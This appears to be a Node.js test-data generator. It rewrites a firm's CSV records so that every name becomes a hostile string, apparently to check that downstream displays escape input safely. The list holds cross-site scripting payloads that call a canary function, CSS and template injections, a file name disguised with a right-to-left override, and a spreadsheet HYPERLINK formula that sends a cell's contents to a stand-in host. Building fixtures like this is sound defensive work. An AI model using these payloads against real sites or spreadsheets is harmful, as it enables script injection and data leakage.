// SPDX-License-Identifier: MIT
// Writes the records of a firm again, every name in them hostile:
//
//     node hostile_firm.js <directory of a firm> <directory to write>
'use strict';
const fs = require('fs');
const path = require('path');

/// What a name may hold to run, to break out, or to break the layout. A script that runs calls
/// patronRan().
const hostile = [
  '<script>patronRan()</script>',
  '"><img src=x onerror=patronRan()>',
  "'><svg onload=patronRan()>",
  '</title></desc></style></svg><script>patronRan()</script>',
  ']]><!--<iframe srcdoc="<script>parent.patronRan()</script>">',
  'javascript:patronRan()',
  '&lt;script&gt;patronRan()&#60;/script&#62;',
  '=HYPERLINK("http://firm.invalid/?"&A1,"click")',
  '${patronRan()}{{patronRan()}}',
  'url(http://firm.invalid/x.png);}body{display:none}',
  'שלום לקוח יקר',
  'مرحبا بكم',
  'invoice\u202Efdp.exe',
  '👩‍👩‍👧‍👦🎉🇯🇵',
  'Z\u0351\u036b\u0343\u036a\u0302\u0306\u0352\u0301algo',
  'W'.repeat(10000),
  'very long '.repeat(1000),
  '長い名前'.repeat(2500),
];

/// A name of its own for each name, the same for the same one. Needs stand in lists with spaces
/// between them and have none themselves.
const renamed = new Map();
function rename(name, isNeed) {
  if (!renamed.has(name)) {
    const chosen = hostile[renamed.size % hostile.length] + renamed.size;
    renamed.set(name, isNeed ? chosen.replaceAll(' ', '/') : chosen);
  }
  return renamed.get(name);
}

const people = ['customer', 'referrer', 'referred'];
const things = ['product', 'offer', 'stage', 'channel', 'seller', 'need', 'answers'];

const [from, to] = process.argv.slice(2);
fs.mkdirSync(to, { recursive: true });
for (const file of fs.readdirSync(from).sort()) {
  if (!file.endsWith('.csv')) continue;
  const [header, ...lines] = fs.readFileSync(path.join(from, file), 'utf8').trim().split('\n');
  const columns = header.split(',');
  const rows = lines.map((line) => line.split(',').map((value, i) => {
    if (value === '' || ![...people, ...things].includes(columns[i])) return value;
    const isNeed = columns[i] === 'need' || columns[i] === 'answers';
    const names = isNeed ? value.split(' ') : [value];
    const name = names.map((one) => rename(one, isNeed)).join(' ');
    return '"' + name.replaceAll('"', '""') + '"';
  }).join(','));
  fs.writeFileSync(path.join(to, file), [header, ...rows, ''].join('\n'));
}
